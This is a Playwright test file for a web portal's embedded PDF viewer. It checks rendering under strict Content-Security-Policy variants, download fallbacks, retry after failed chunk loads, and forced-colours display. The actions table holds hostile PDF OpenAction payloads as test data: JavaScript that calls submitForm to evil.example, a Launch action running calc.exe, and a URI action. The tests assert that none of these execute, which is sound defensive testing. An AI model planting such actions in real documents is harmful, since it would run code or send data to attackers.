/** PDFs under the policies of the guide: they are read, nothing in them runs, nothing is asked for, and no policy is broken. */
import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { pdfOf, protectedPdf } from '../pdf'
import { inFull } from '../tiers'
import { configureFirst, expect, loaderScript, openWidgets, test, watchStrangers } from './test'

const guide = readFileSync('docs/embed/policy.md', 'utf8')
const strict = /^Content-Security-Policy: (.+)$/m.exec(guide)?.[1] ?? ''
const trusted = "require-trusted-types-for 'script'; trusted-types"
const withNonce = strict.replace("script-src 'self'", "script-src 'nonce-bm9uY2U'")
const nonceScript = loaderScript.replace('<script', '<script nonce="bm9uY2U"')

/** The name, the policy, whether the host allows workers, and whether there is one. */
const policies = [
  ['strict', strict, true, true],
  ['strict, with Trusted Types that allow the worker', `${strict}; ${trusted} client-portal-pdf`, true, true],
  ['strict, with no Trusted Types at all', `${strict}; ${trusted} 'none'`, false, false],
  ['strict, with a nonce', withNonce, false, false],
] as const

const actions = {
  JavaScript:
    '/S /JavaScript /JS (app.alert\\(1\\); globalThis.ran = true; this.submitForm\\("https://evil.example/"\\))',
  'a launch action': '/S /Launch /F (calc.exe)',
  'an address': '/S /URI /URI (https://evil.example/)',
}

/** Gives each PDF of the server other bytes. */
const answerWith = (page: Page, pdf: Uint8Array<ArrayBuffer>) =>
  page.route('**/*.pdf*', (route) =>
    route.fulfill({ contentType: 'application/pdf', body: Buffer.from(pdf) }),
  )

async function openPdf(page: Page, policy: string) {
  const head = policy === withNonce ? nonceScript : loaderScript
  await openWidgets(page, '<cp-files service-id="project-website-relaunch"></cp-files>', { policy, head })
  await page.getByRole('link', { name: /Statement of work/ }).click()
}

for (const [name, policy, workers, hasWorker] of policies) {
  test(`a PDF is read under the policy: ${name}`, inFull(name !== 'strict'), async ({ page }) => {
    const strangers = watchStrangers(page)
    if (!workers) await configureFirst(page, { workers })
    for (const [what, action] of Object.entries(actions)) {
      await test.step(what, async () => {
        await answerWith(page, pdfOf([['The plan of work']], { catalog: `/OpenAction << ${action} >>` }))
        await openPdf(page, policy)
        await expect(page.getByRole('dialog').getByText('The plan of work')).toBeAttached()
        await expect(page.getByRole('dialog').locator('[data-page] canvas')).toBeVisible()
        expect(page.workers()).toHaveLength(hasWorker ? 1 : 0)
        await page.unrouteAll()
      })
    }
    expect(strangers).toEqual([])
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
  })
}

test('a PDF with fonts of its own is drawn under the strict policy', async ({ page }) => {
  await openPdf(page, strict)
  await expect(page.getByRole('dialog').locator('[data-page] canvas').first()).toBeVisible()
  await expect(
    page
      .getByRole('dialog')
      .getByText(/Statement of work/i)
      .first(),
  ).toBeAttached()
})

for (const [what, pdf, words] of [
  ['one with a password', protectedPdf(), 'protected by a password'],
  ['a damaged one', Uint8Array.from('%PDF-1.7', (letter) => letter.charCodeAt(0)), 'is damaged'],
] as const)
  test(`${what} is offered for download`, inFull(), async ({ page }) => {
    await answerWith(page, pdf)
    await openPdf(page, strict)
    const dialog = page.getByRole('dialog')
    await expect(dialog.getByText(words)).toBeVisible()
    await expect(dialog.getByRole('link', { name: 'Download', exact: true })).toBeVisible()
  })

test.describe('without what draws or reads PDFs', () => {
  // Chromium says in the console what was lost, and so does the viewer, and React of the view without its code.
  test.use({ expectedErrors: /^Failed to load resource: net::ERR_FAILED|chunks\/pdf-pages/ })

  test('the viewer says so, and tries again', async ({ page }) => {
    await answerWith(page, pdfOf([['The plan of work']]))
    for (const lost of ['**/chunks/pdf-drawing*', '**/chunks/pdf-pages*'])
      await test.step(lost, async () => {
        await page.route(lost, (route) => route.abort())
        await openPdf(page, strict)
        const dialog = page.getByRole('dialog')
        const again = dialog.getByRole('button', { name: 'Retry' })
        await expect(again).toBeVisible()
        await expect(dialog.getByText('is damaged')).toBeHidden()
        await expect(dialog.getByRole('link', { name: 'Download', exact: true })).toBeVisible()
        await page.unroute(lost)
        await again.click()
        await expect(dialog.getByText('The plan of work')).toBeAttached()
      })
  })
})

test("in the reader's own colours, the letters stay unseen above their picture", async ({ page }) => {
  await page.emulateMedia({ forcedColors: 'active' })
  await answerWith(page, pdfOf([['The plan of work']]))
  await openPdf(page, strict)
  await expect(page.getByRole('dialog').getByText('The plan of work')).toHaveCSS('color', 'rgba(0, 0, 0, 0)')
})
